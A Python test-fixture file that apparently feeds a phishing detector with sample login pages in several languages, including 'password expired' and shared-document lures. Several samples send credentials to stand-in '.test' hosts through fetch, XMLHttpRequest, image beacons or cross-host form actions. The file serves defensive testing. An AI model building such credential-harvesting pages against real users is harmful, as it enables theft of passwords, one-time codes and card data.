"""Passwords asked for openly, in the many ways a form may be written and sent."""

from __future__ import annotations

from tests.pages.guises.page import AskingPage, dress


def _list_markup() -> tuple[AskingPage, ...]:
    """Return forms that differ in how they are written."""
    return (
        AskingPage(
            name="plain-form",
            why="The ordinary sign-in, nothing hidden.",
            html=dress(
                "Connexion",
                """<main><h1>Mouvement Aurore</h1><form method=post action=/connexion>
<label for=mail>Adresse e-mail</label><input id=mail name=email type=email>
<label for=mdp>Mot de passe</label><input id=mdp name=motdepasse type=password>
<button>Se connecter</button></form></main>""",
            ),
        ),
        AskingPage(
            name="no-form-element",
            why="Fields and a button with no form around them.",
            html=dress(
                "Members",
                """<main><h1>Harbour Press</h1><div>User</div><input placeholder="User">
<div>Password</div><input type=password placeholder="Password"><button type=button>Enter</button></main>""",
                look="dark",
                lang="en",
            ),
        ),
        AskingPage(
            name="quirks-upper-case",
            why="Old upper-case markup without a doctype or closing tags.",
            html="""<HTML><TITLE>Webmail</TITLE><BODY BGCOLOR=#DDDDEE><CENTER><FONT SIZE=5>Webmail Fondation Lumen</FONT>
<FORM METHOD=POST ACTION=/cgi-bin/login><TABLE BORDER=1 CELLPADDING=6>
<TR><TD>Identifiant<TD><INPUT NAME=U SIZE=24>
<TR><TD>Mot de passe<TD><INPUT TYPE=PassWord NAME=P SIZE=24>
<TR><TD COLSPAN=2 ALIGN=CENTER><INPUT TYPE=SUBMIT VALUE="OK"></TABLE></FORM></CENTER>""",
        ),
        AskingPage(
            name="placeholder-only",
            why="No label, the word stands in the placeholder.",
            html=dress(
                "Anmeldung",
                """<main><h1>Freie Feder</h1><form action=/a method=post><input name=n placeholder="E-Mail-Adresse"><br>
<input name=k type=password placeholder="Kennwort"><button>Anmelden</button></form></main>""",
                look="office",
                lang="de",
            ),
        ),
        AskingPage(
            name="form-attribute",
            why="The field stands outside the form and belongs to it by its form attribute.",
            html=dress(
                "Acceso",
                """<form id=f9 method=post action=/entrar></form><main><h1>El Faro</h1>
<label>Correo <input form=f9 name=c></label><label>Contraseña <input form=f9 type=password name=d></label>
<button form=f9>Entrar</button></main>""",
                look="press",
                lang="es",
            ),
        ),
        AskingPage(
            name="current-password-as-text",
            why="type=text whose autocomplete and label are those of a password; nothing masks it.",
            html=dress(
                "Connexion",
                """<main><h1>Espace adhérent</h1><form method=post action=/s><label>Adresse
<input type=text name=a autocomplete=username></label><label>Mot de passe
<input type=text name=b autocomplete=current-password></label><button>Continuer</button></form></main>""",
                look="phone",
            ),
        ),
        AskingPage(
            name="readonly-until-focus",
            why="The field is read-only until it has the focus, against password managers.",
            html=dress(
                "Logowanie",
                """<main><h1>Wolne Słowo</h1><form method=post action=/wejscie><label>Login <input name=l></label>
<label>Hasło <input type=password name=h readonly onfocus="this.removeAttribute('readonly')"></label>
<button>Zaloguj się</button></form></main>""",
                lang="pl",
            ),
        ),
        AskingPage(
            name="new-password-twice",
            why="'Your password has expired': the old one and the new one twice.",
            html=dress(
                "Password expired",
                """<main><h1>Your password expires today</h1><p>Keep your current mailbox by confirming it below.</p>
<form method=post action=/renew><label>Current password <input type=password name=o></label>
<label>New password <input type=password name=n1></label><label>Repeat it <input type=password name=n2></label>
<button>Keep my mailbox</button></form></main>""",
                look="office",
                lang="en",
            ),
        ),
        AskingPage(
            name="password-alone",
            why="The address is already filled in from the link; only the password is asked for.",
            html=dress(
                "Document partagé",
                """<main><h1>Budget 2027.xlsx</h1><p>Protégé. Ouvrez avec le compte <b>claire@aurore.example</b></p>
<form method=post action=/doc><input type=password name=x aria-label="Mot de passe de votre messagerie">
<button>Ouvrir le document</button></form></main>""",
                look="office",
            ),
        ),
    )


def _list_companions() -> tuple[AskingPage, ...]:
    """Return forms that ask for more than the password."""
    return (
        AskingPage(
            name="password-and-one-time-code",
            why="Password and second factor on the same page.",
            also=("one-time-code",),
            html=dress(
                "Vérification",
                """<main><h1>Vérification en deux étapes</h1><form method=post action=/v>
<label>Mot de passe <input type=password name=pw></label><label>Code à 6 chiffres reçu par SMS
<input name=otp inputmode=numeric maxlength=6 autocomplete=one-time-code></label><button>Vérifier</button></form></main>""",
            ),
        ),
        AskingPage(
            name="password-and-card",
            why="Password and bank card on the same page.",
            also=("card",),
            html=dress(
                "Renew",
                """<main><h1>Renew your press pass</h1><form method=post action=/renew><label>Password
<input type=password name=pass></label><label>Card number <input name=cc inputmode=numeric
autocomplete=cc-number placeholder="0000 0000 0000 0000"></label><label>Expiry <input autocomplete=cc-exp
placeholder="MM/YY"></label><label>CVC <input autocomplete=cc-csc maxlength=4></label><button>Pay 1.00 €</button></form></main>""",
                look="phone",
                lang="en",
            ),
        ),
        AskingPage(
            name="password-code-and-card",
            why="Everything at once, as a fake bank would.",
            also=("one-time-code", "card"),
            html=dress(
                "Banca",
                """<main><h1>Banca del Porto</h1><form method=post action=/b><label>Codice cliente <input name=a></label>
<label>Password <input type=password name=b></label><label>Codice OTP <input name=c inputmode=numeric maxlength=6></label>
<label>Numero della carta <input name=d autocomplete=cc-number></label><label>CVV <input name=e maxlength=3></label>
<button>Conferma</button></form></main>""",
                look="dark",
                lang="it",
            ),
        ),
    )


def _list_sendings() -> tuple[AskingPage, ...]:
    """Return forms that differ in where and how the password is sent."""
    fields = """<label>E-mail <input id=e name=e type=email></label>
<label>Mot de passe <input id=p name=p type=password></label>"""
    return (
        AskingPage(
            name="action-elsewhere",
            why="The form's action is another host.",
            posts_to="recolte.aurore-verif.test",
            html=dress(
                "Connexion",
                f"""<main><h1>Portail des bénévoles</h1><form method=post action=https://recolte.aurore-verif.test/in.php>
{fields}<button>Connexion</button></form></main>""",
            ),
        ),
        AskingPage(
            name="formaction-elsewhere",
            why="The form stays at home, its button's formaction goes to another host.",
            posts_to="recolte.aurore-verif.test",
            html=dress(
                "Connexion",
                f"""<main><h1>Intranet</h1><form method=post action=/connexion>{fields}
<button formaction=https://recolte.aurore-verif.test/b>Valider</button></form></main>""",
                look="dark",
            ),
        ),
        AskingPage(
            name="base-elsewhere",
            why="A base element makes the relative action another host's.",
            posts_to="formes.boite-lettres.test",
            html=dress(
                "Messagerie",
                f"""<main><h1>Messagerie</h1><form method=post action=prise>{fields}<button>Ouvrir</button></form></main>""",
                head="<base href=https://formes.boite-lettres.test/a/>",
                look="office",
            ),
        ),
        AskingPage(
            name="fetch-elsewhere",
            why="Script stops the form and sends it by fetch to another host.",
            posts_to="api.relais-depot.test",
            html=dress(
                "Connexion",
                f"""<main><h1>Vents d'Est</h1><form id=s>{fields}<button>Se connecter</button></form><p id=m></p></main>""",
                look="press",
                script="""document.getElementById('s').addEventListener('submit', event => {
  event.preventDefault();
  fetch('https://api.relais-depot.test/v1', {method: 'POST', mode: 'no-cors', body: new FormData(event.target)})
    .catch(() => {});
  document.getElementById('m').textContent = 'Mot de passe incorrect. Réessayez.';
});""",
            ),
        ),
        AskingPage(
            name="xhr-json-elsewhere",
            why="XMLHttpRequest with JSON on a click, no form.",
            posts_to="bot.relais-depot.test",
            html=dress(
                "Sign in",
                f"""<main><h1>Sign in to continue</h1>{fields}<button id=go>Next</button></main>""",
                look="office",
                lang="en",
                script="""go.onclick = function () {
  var x = new XMLHttpRequest();
  x.open('POST', 'https://bot.relais-depot.test/sendMessage');
  x.setRequestHeader('Content-Type', 'application/json');
  x.send(JSON.stringify({chat_id: 1, text: e.value + '|' + p.value}));
};""",
            ),
        ),
        AskingPage(
            name="image-elsewhere",
            why="The password leaves in the address of an image.",
            posts_to="pixel.relais-depot.test",
            html=dress(
                "Connexion",
                f"""<main><h1>Accès presse</h1>{fields}<button onclick="new Image().src='https://pixel.relais-depot.test/x.gif?d='
+btoa(e.value+':'+p.value)">Entrer</button></main>""",
                look="dark",
            ),
        ),
    )


def list_plain() -> tuple[AskingPage, ...]:
    """Return the open forms."""
    return _list_markup() + _list_companions() + _list_sendings()
